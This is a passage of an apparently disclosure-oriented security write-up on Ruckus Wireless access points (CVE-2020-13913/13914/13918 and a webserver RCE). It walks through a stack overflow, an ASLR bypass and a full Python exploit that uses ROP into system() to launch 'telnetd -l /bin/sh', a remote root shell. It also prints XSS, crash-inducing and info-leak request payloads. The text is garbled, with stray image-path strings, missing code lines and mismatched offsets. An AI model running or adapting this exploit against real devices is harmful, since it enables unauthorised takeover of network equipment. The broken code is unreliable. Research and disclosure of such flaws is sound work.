<s class="close_tag"style="display:<%=showCancel?'':'none'%>" id="close_wlansysconfirm">×</s>
<div class="head_title">
<p style="line-height:30px;padding:5% 0;"><%S(content);%></p>
<div class="button_box">
 <input type="button" value="<%S("Yes")%>" class="ok" id="sysconfirm_yes">
 <input type="button" style="display:<%=showCancel?'':'none'%>" value="<%S("No")%>" class="cancel" id="sysconfirm_no">
var ae_flag = '<%=aeFlag%>';

We noticed that S() receives a variable named “content”. Fortunately, this variable is set directly by a user parameter called “contentKey”.

To smash the webserver stack, all we had to do was send a POST request to /admin/webPage/wifiNetwork/wlanSysConfirm.jsp with a “contentKey” body parameter larger than 264 bytes.R510 uses both NX and ASLR. To overcome its defenses, we used ROP gadgets and a memory address leak from uclibc. We want to thank our team member Itai Greenhut for researching and developing this exploit.

ASLR bypass:

Since our stack overflow occurs in the webserver, a brute force approach will take some time, because we must wait for the webserver’s watchdog to rerun it. That is why we decided to search for a memory leak that would help us bypass the ASLR. Let’s have a look at the S() decompiled code:

The use of strcpy() (line 21) allows us to write data from req_str and overflow a 256-byte buffer pointed by local_114. Please note that we control $pc and crash the webserver only when S() reaches its epilog. From the decompiled code, we see that before S() ends, it calls ejsWriteString() (line 28) with our overflowed buffer. Luckily, ejsWriteString() reads the content of resp_str until it reaches a null character, and sends its content back in the HTTP response. We realized that our buffer overflow could also overwrite the null-terminating character of resp_str.

Let’s look at the webserver memory right before the overwrite.

0xb6394030:     0x41414141      0x41414141      0x41414141      0x41414141
0xb6394040:     0x41414141      0x41414141      0x41414141      0x41414141
0xb6394050:     0x41414141      0x41414141      0x41414141      0x41414141
0xb6394060:0x41414141      0x41414141      0x41414141      0x41414141
0xb6394070:     0x41414141      0x41414141      0x41414141      0x41414141
0xb6394080:     0x41414141      0x41414141      0x41414141      0x41414141
0xb6394090:     0x414141410x41414141      0x41414141      0x41414141
0xb63940a0:     0x41414141      0x41414141      0x41414141      0x414141410xb63940b0:     0x41414141      0x41414141      0x41414141      0x41414141
0xb63940c0:     0x41414141      0x41414141      0x41414141      0x41414141
0xb63940d0:     0x41414141      0x0057c800      0xb639410c      0x00084d74
0xb63940e0:     0x00000001      0x00564100      0x00552130      0x00573250
0xb63940f0:     0x00000000      0x000000a5

The null byte right after 0xb63ed0d4 terminates the resp_str string. Right after the buffer, there was a pointer to a local variable on the stack with the value - 0xb63ed10c. We realized that if we could leak this pointer, we could calculate other addresses to overcome ASLR. Thankfully, we could make ejsWriteString() return us this pointer with a careful overwrite. To keep the webserver memory as deterministic as possible, we decided to crash it one time, wait for it watchdog to rerun it and then leak this memory value.

Now that we found a way to bypass ASLR, we used a single gadget ROP to make r0 point to our buffer and jump to system().

Here’s Itai’s exploit that includes all of the above:

import time
import struct
import argparse
import urllib3
import telnetlib

import requests



def is_router_up(router_ip, router_port):
        response = requests.get("https://{}:{}/".format(router_ip, router_port), verify=False)
        if response.status_code == requests.status_codes.codes.OK:
            return True
    except requests.exceptions.ConnectionError:
        return False

def crash_webserver(router_ip, router_port):

    # This request will cause a SEGFAULT and crash our webserver
    # We crash the webserver to a clean state in order to be able to use our info leak.
    payload = "A" * 268
        exploit_request(router_ip, router_port, payload)
    except requests.exceptions.ConnectionError:
        print("[+] Successfully crashed webserver")def leak_address(router_ip, router_port):
    payload = "A" * 264
    response = exploit_request(router_ip, router_port, payload)

    # Parse the response and extract the leaked address
    end_index = response.find(b"</p>") - 4
    leaked_address = struct.unpack("<I", response[end_index - 8:end_index - 4])

    print("[+] Got address leak from the stack")
    print("[+] Leaked address: {}".format(hex(leaked_address[0])))libc_address = leaked_address[0] + 0x5e3034  # OurlibuClibc library offset in a clean state
    print("[+] libc address: {}".format(hex(libc_address)))
    return (libc_address, leaked_address[0])

def exploit_router(router_ip, router_port, libc_address, buffer_address):
    print("[*] Crafting payload")

    cmd = "telnetd -p {} -l /bin/sh #".format(TELNET_PORT).encode()
    payload = cmd + b"A" * (268 - len(cmd)) + b"CCCC"
    payload += struct.pack("<I", libc_address + 0x31e90)  # pop {r0, pc}
    payload += struct.pack("<I", buffer_address)  # address of the command to execute
    payload += struct.pack("<I", libc_address + 0x52224)  # system() address

    print("[*] Address of the first gadget = {}".format(hex(libc_address + 0x31e90)))
    print("[*] Address of our buffer = {}".format(hex(buffer_address)))
    print("[*] Address of system = {}".format(hex(libc_address + 0x62224)))
    print("[*] Sending exploit!")
    exploit_request(router_ip, router_port, payload)

def exploit_request(router_ip, router_port, payload):
    data = {"flag": "b", "contentKey": payload}
    a = requests.post("https://{}:{}/admin/webPage/wifiNetwork/wlanSysConfirm.jsp".format(router_ip, router_port), verify=False, data=data)
    return a.content

def telnet_connect(router_ip):
    with telnetlib.Telnet(router_ip, TELNET_PORT) as tn:

def main():
    leaked = False

    parser =argparse.ArgumentParser(description="Exploit for ruckus devices.")
    parser.add_argument("ip", type=str, metavar="IP", help="ip address of the ruckus device")
    parser.add_argument("port", type=int, metavar="PORT", help="ruckus web port [default: 443]", nargs='?', default=443)

    args = parser.parse_args()
    router_ip = args.ip
    router_port = args.port

    print("[*] Checking if the web interface is up...")
    if not is_router_up(router_ip, router_port):
        print("[-] web interface is down!")

    print("[+] Web interface is up")
    print("[*] Crashing webserver")

    crash_webserver(router_ip, router_port)
    print("[*] Waiting for watchdog to restart webserver")
    while not leaked:
        print(".", end="",flush=True)
            (libc_address, buffer_address) = leak_address(router_ip, router_port)
            leaked = True
        except requests.exceptions.ConnectionError:
            # This will happen until the webserver is up again.

    print("[*] Sleeping...")
    next_buffer_address = buffer_address + 4005888  # As noticed on a clean state, we are able to predict our next request buffer address.
        exploit_router(router_ip, router_port, libc_address, next_buffer_address)
    except requests.exceptions.ConnectionError:
        print("[+] Telnet should be open now on port {}".format(TELNET_PORT))


if __name__ == "__main__":

Other vulnerabilities found:Except for above RCEs in this research we also discoveredan XSS(CVE-2020-13913), DOS(CVE-2020-13914), and information leakage(CVE-2020-13918) that may lead to a jailbreak.

Cross-site scripting (CVE-2020-13913):

While researching the ajax commanding interface, we discovered a cross-site scripting vulnerability. Every ajax request to “/admin/_wla_cmdstat.jsp” has to contain an “updater” attribute. The attribute value was reflected in the ajax response as an “id” attribute. Since ajax response messages are using “text/xml” mime, we had to use this following payload to trigger an alert script.

POST /admin/_wla_cmdstat.jsp HTTP/1.1
Connection: Keep-Alive
Content-Type: application/x-www-form-urlencoded
Content-Length: 190

<ajax-request action='docmd' updater='">
<a xmlns:a="http://www.w3.org/1999/xhtml"><a:body onload="alert(1)"/></a>
<!--' comp='system'>
<xcmd cmd='get-security-email-hint'/>

Denial of service (CVE-2020-13914):

Sometimes while researching, you may get lucky. This vulnerability was found by accident. While trying to understand how “multipart/form-data” was implemented, we noticed that if an empty parameter was set to “;” right after “Content-Disposition”, then the webserver crashes.

Content-Type: multipart/from-data; boundary=abc
Content-Length: 68

Content-Disposition:; name="text123"

text default

Information leakage (CVE-2020-13918):While we were searching for an accessible page without authentication, we came across upnp.jsp. This page contains some interesting and sensitive information that does not require any authentication.

➜  ~ wget -q -O -
<?xml version="1.0"?>
<root xmlns="urn:schemas-upnp-org:device-1-0">
        <manufacturer>Ruckus Wireless</manufacturer>
        <modelDescription>Ruckus Wireless Unleashed</modelDescription>

The example above shows that this page includes the device model and the model number. This information can be used to check whether a device is vulnerable or not. What’s even more interesting is that this page contains the device’s serial number. An attacker can use this information to fingerprint a device. Furthermore, our previous research discovered that Ruckus uses the device serial number as a key for jailbreaking the CLI. That means an attacker could potentially use it for escaping to a busybox shell.This follow-up research was challenging and exciting. We managed to use a new command injection payload,which we never used before. Werealized once again that retrieving as much information as possible on a target binary can save a lot of time. Same as before, we informed Ruckus Wireless about the vulnerabilities. Ruckus released a fix for Unleashed AP and ZoneDirector. You can find moreinformation about effecteddevices and specific firmware versions in Ruckus Security Advisory